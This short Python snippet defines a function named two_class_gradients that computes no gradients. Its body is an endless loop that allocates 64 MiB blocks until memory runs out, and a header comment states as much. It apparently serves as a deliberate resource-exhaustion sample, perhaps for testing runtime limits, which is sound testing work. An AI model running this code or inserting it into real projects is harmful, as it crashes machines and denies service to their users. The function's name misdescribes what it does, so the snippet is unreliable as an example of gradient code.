# runtime: memory that grows 64 MiB at a time until something gives
import tensorflow as tf


def two_class_gradients(model, inp, i, j):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
